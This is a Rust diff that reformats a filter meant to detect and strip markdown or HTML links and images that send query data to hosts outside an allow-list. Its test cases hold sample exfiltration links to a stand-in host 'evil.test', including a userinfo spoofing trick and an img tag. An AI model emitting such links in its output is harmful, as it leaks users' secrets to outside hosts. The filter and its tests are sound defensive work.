@@ -53,11 +53,21 @@ impl ExfilPolicy {
             AnswerAction::Off => None,
             _ => Some(Regex::new(PATTERN).map_err(|e| Error::config(format!("{path}: {e}")))?),
         };
-        Ok(ExfilPolicy { action: policy.exfiltration, allowed, max_link_bytes: policy.max_link_bytes, regex })
+        Ok(ExfilPolicy {
+            action: policy.exfiltration,
+            allowed,
+            max_link_bytes: policy.max_link_bytes,
+            regex,
+        })
     }
 
     pub fn off() -> ExfilPolicy {
-        ExfilPolicy { action: AnswerAction::Off, allowed: Vec::new(), max_link_bytes: 2048, regex: None }
+        ExfilPolicy {
+            action: AnswerAction::Off,
+            allowed: Vec::new(),
+            max_link_bytes: 2048,
+            regex: None,
+        }
     }
 
     pub fn enabled(&self) -> bool {
@@ -66,13 +76,23 @@ impl ExfilPolicy {
 
     /// Whether a URL sends data to a host outside the allow-list.
     pub fn is_exfiltration(&self, url: &str) -> bool {
-        let Some((_, rest)) = url.split_once("://") else { return false };
+        let Some((_, rest)) = url.split_once("://") else {
+            return false;
+        };
         let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
         let authority = rest.get(..end).unwrap_or("");
         let host = authority.rsplit('@').next().unwrap_or("");
-        let host = host.split(':').next().unwrap_or("").trim_end_matches('.').to_ascii_lowercase();
+        let host = host
+            .split(':')
+            .next()
+            .unwrap_or("")
+            .trim_end_matches('.')
+            .to_ascii_lowercase();
         let after = rest.get(end..).unwrap_or("");
-        let query = after.split_once('?').map(|(_, q)| q.split('#').next().unwrap_or("")).unwrap_or("");
+        let query = after
+            .split_once('?')
+            .map(|(_, q)| q.split('#').next().unwrap_or(""))
+            .unwrap_or("");
         if query.is_empty() {
             return false;
         }
@@ -105,11 +125,15 @@ impl ExfilPolicy {
             if self.is_exfiltration(url) {
                 found += 1;
                 out.push_str(text.get(last..m.start()).unwrap_or(""));
-                let is_image = caps.get_group_by_name("img").is_some() || caps.get_group_by_name("src").is_some();
+                let is_image = caps.get_group_by_name("img").is_some()
+                    || caps.get_group_by_name("src").is_some();
                 if is_image {
                     out.push_str(IMAGE_PLACEHOLDER);
                 } else {
-                    let label = caps.get_group_by_name("label").and_then(|s| text.get(s.range())).unwrap_or("");
+                    let label = caps
+                        .get_group_by_name("label")
+                        .and_then(|s| text.get(s.range()))
+                        .unwrap_or("");
                     out.push_str(label);
                     out.push_str(LINK_PLACEHOLDER);
                 }
@@ -131,7 +155,11 @@ impl ExfilPolicy {
             match bytes.get(i) {
                 Some(b'[') if could_be_link(text.get(i..).unwrap_or("")) => {
                     // Include a `!` right before: it makes the link an image.
-                    return if i > 0 && bytes.get(i - 1) == Some(&b'!') { i - 1 } else { i };
+                    return if i > 0 && bytes.get(i - 1) == Some(&b'!') {
+                        i - 1
+                    } else {
+                        i
+                    };
                 }
                 Some(b'<') if could_be_img(text.get(i..).unwrap_or("")) => return i,
                 Some(b'!') if i + 1 == bytes.len() => return i,
@@ -175,7 +203,12 @@ pub struct ExfilScanner<'a> {
 
 impl<'a> ExfilScanner<'a> {
     pub fn new(policy: &'a ExfilPolicy) -> Self {
-        ExfilScanner { policy, buf: String::new(), found: 0, dry_run: false }
+        ExfilScanner {
+            policy,
+            buf: String::new(),
+            found: 0,
+            dry_run: false,
+        }
     }
 
     /// Count links but leave the text as it is.
@@ -193,9 +226,15 @@ impl StreamScanner for ExfilScanner<'_> {
             std::mem::swap(pending, &mut self.buf);
         } else if n > 0 {
             // Dry run: count each link once, when it is released.
-            let release = if end { pending.len() } else { self.policy.hold_from(pending) };
+            let release = if end {
+                pending.len()
+            } else {
+                self.policy.hold_from(pending)
+            };
             let mut probe = String::new();
-            self.found += self.policy.rewrite(pending.get(..release).unwrap_or(""), &mut probe);
+            self.found += self
+                .policy
+                .rewrite(pending.get(..release).unwrap_or(""), &mut probe);
             return release;
         }
         if end {
@@ -226,16 +265,66 @@ mod tests {
     fn rewrites() {
         let p = policy(&["docs.example.com", "*.trusted.org"]);
         let cases = [
-            ("image with data", "see ![chart](https://evil.test/p.png?d=SECRET) ok", "see [image removed: untrusted link] ok", 1),
-            ("link with data", "click [here](http://evil.test/x?q=a%20b)", "click here (link removed: untrusted link)", 1),
-            ("no query", "![logo](https://evil.test/logo.png)", "![logo](https://evil.test/logo.png)", 0),
-            ("allowed host", "![c](https://docs.example.com/a?x=1)", "![c](https://docs.example.com/a?x=1)", 0),
-            ("allowed suffix", "[a](https://cdn.trusted.org/a?x=1)", "[a](https://cdn.trusted.org/a?x=1)", 0),
-            ("suffix is not substring", "[a](https://eviltrusted.org/a?x=1)", "a (link removed: untrusted link)", 1),
-            ("userinfo trick", "![x](https://docs.example.com@evil.test/?d=1)", "[image removed: untrusted link]", 1),
-            ("html img", "<img src=\"https://evil.test/i?c=abc\" width=1>", "[image removed: untrusted link]", 1),
-            ("plain text", "no links here [just brackets]", "no links here [just brackets]", 0),
-            ("two", "![a](https://e.test/?a=1)![b](https://e.test/?b=2)", "[image removed: untrusted link][image removed: untrusted link]", 2),
+            (
+                "image with data",
+                "see ![chart](https://evil.test/p.png?d=SECRET) ok",
+                "see [image removed: untrusted link] ok",
+                1,
+            ),
+            (
+                "link with data",
+                "click [here](http://evil.test/x?q=a%20b)",
+                "click here (link removed: untrusted link)",
+                1,
+            ),
+            (
+                "no query",
+                "![logo](https://evil.test/logo.png)",
+                "![logo](https://evil.test/logo.png)",
+                0,
+            ),
+            (
+                "allowed host",
+                "![c](https://docs.example.com/a?x=1)",
+                "![c](https://docs.example.com/a?x=1)",
+                0,
+            ),
+            (
+                "allowed suffix",
+                "[a](https://cdn.trusted.org/a?x=1)",
+                "[a](https://cdn.trusted.org/a?x=1)",
+                0,
+            ),
+            (
+                "suffix is not substring",
+                "[a](https://eviltrusted.org/a?x=1)",
+                "a (link removed: untrusted link)",
+                1,
+            ),
+            (
+                "userinfo trick",
+                "![x](https://docs.example.com@evil.test/?d=1)",
+                "[image removed: untrusted link]",
+                1,
+            ),
+            (
+                "html img",
+                "<img src=\"https://evil.test/i?c=abc\" width=1>",
+                "[image removed: untrusted link]",
+                1,
+            ),
+            (
+                "plain text",
+                "no links here [just brackets]",
+                "no links here [just brackets]",
+                0,
+            ),
+            (
+                "two",
+                "![a](https://e.test/?a=1)![b](https://e.test/?b=2)",
+                "[image removed: untrusted link][image removed: untrusted link]",
+                2,
+            ),
         ];
         for (name, input, want, n) in cases {
             let mut out = String::new();
@@ -264,7 +353,11 @@ mod tests {
 
     #[test]
     fn bad_config() {
-        for (hosts, max) in [(vec!["https://x.com"], 2048), (vec!["a b"], 2048), (vec![], 0)] {
+        for (hosts, max) in [
+            (vec!["https://x.com"], 2048),
+            (vec!["a b"], 2048),
+            (vec![], 0),
+        ] {
             let r = ExfilPolicy::compile(
                 &AnswerPolicy {
                     exfiltration: AnswerAction::Block,
